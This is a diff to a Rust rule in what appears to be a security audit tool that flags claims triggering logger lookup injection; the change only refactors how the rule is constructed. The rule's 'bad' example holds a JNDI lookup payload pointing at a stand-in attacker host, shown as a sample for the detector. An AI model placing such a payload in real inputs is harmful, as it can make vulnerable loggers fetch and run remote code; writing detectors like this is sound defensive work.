@@ -1,9 +1,9 @@
 //! A claim that makes a logger fetch and run something.
 
 use crate::check::audit::usual::usual_claims_and;
-use crate::check::audit::{Example, Family, Found, Look, Risk, Rule, Subject};
+use crate::check::audit::{Example, Family, Found, Look, Risk, Rule, Subject, Written};
 
-pub(super) static RULE: Rule = Rule {
+pub(super) static RULE: Rule = Rule::of(Written {
     id: "injection-lookup",
     family: Family::Claims,
     risk: Risk::High,
@@ -15,7 +15,7 @@ pub(super) static RULE: Rule = Rule {
     bad: Example::claims(usual_claims_and!(r#""nickname":"${jndi:ldap://attacker.example/a}""#)),
     good: Example::claims(usual_claims_and!(r#""nickname":"jndi""#)),
     look: Look::At(look),
-};
+});
 
 fn look(subject: &Subject<'_>, found: &mut Found<'_>) {
     subject.remark_on_texts(found, |text| {
